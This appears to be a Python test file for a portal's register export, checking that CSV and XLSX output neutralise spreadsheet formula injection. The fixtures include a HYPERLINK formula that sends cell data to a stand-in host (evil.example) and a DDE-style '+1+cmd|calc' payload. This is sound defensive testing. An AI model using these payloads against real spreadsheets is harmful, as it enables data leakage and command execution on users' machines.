"""Exports neutralise formulas: text cells starting with =, +, -, @, tab or CR get a leading '
in CSV (numbers stay numbers) and are strings, never formulas, in XLSX."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

from cir_portal.core.config import Project
from cir_portal.core.pipeline import load_register
from cir_portal.views.context import Site
from cir_portal.views.exports import csv_cell, neutral, register_csv
from cirtest.safety import improvement, run

MakeProject = Callable[..., Path]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def formula_files() -> dict[str, str]:
    return {"content/improvements/IMP-0700-formula.md": improvement(
        "IMP-0700", f"'{FORMULA}'", extra="value: '+1+cmd|calc'\ntags: ['@SUM(A1)', '-2+3']\nplanned_cost: 12\n")}


def test_neutral() -> None:
    assert neutral("=1+1") == "'=1+1" and neutral("@x") == "'@x" and neutral("\tx") == "'\tx"
    assert neutral("plain") == "plain" and neutral("") == ""
    assert csv_cell(-5) == "-5" and csv_cell(-2.5) == "-2.5"  # numbers stay numbers
    assert csv_cell("-5") == "'-5" and csv_cell(["=a", "b"]) == "'=a; b"


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_register_csv_neutralises_formulas(make_project: MakeProject) -> None:
    root = make_project(formula_files())
    result = load_register(Project(root), use_cache=False)
    assert result.register is not None and not result.errors
    rows = _rows(register_csv(Site(result.register, Project(root), epoch=0)))
    row = next(r for r in rows if r["id"] == "IMP-0700")
    assert row["title"] == "'" + FORMULA
    assert row["value"] == "'+1+cmd|calc"
    assert row["tags"] == "'@SUM(A1); -2+3"
    assert row["planned_cost"] == "12"
    for r in rows:
        for value in r.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value


def test_cli_export_xlsx_has_no_formula_cell(make_project: MakeProject, tmp_path: Path) -> None:
    import openpyxl

    root = make_project(formula_files())
    out = tmp_path / "x.xlsx"
    result = run("export", "--out", str(out), "--project", str(root))
    assert result.exit_code == 0, result.output
    book = openpyxl.load_workbook(out)
    ws = book.active
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert FORMULA in [c.value for c in cells]  # kept as text, exactly
    header = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[header.index("id")].value == "IMP-0700")
    assert row[header.index("planned_cost")].value == 12
    csv_out = run("export", "--format", "csv", "--project", str(root))
    assert "'" + FORMULA.replace('"', '""') in csv_out.output
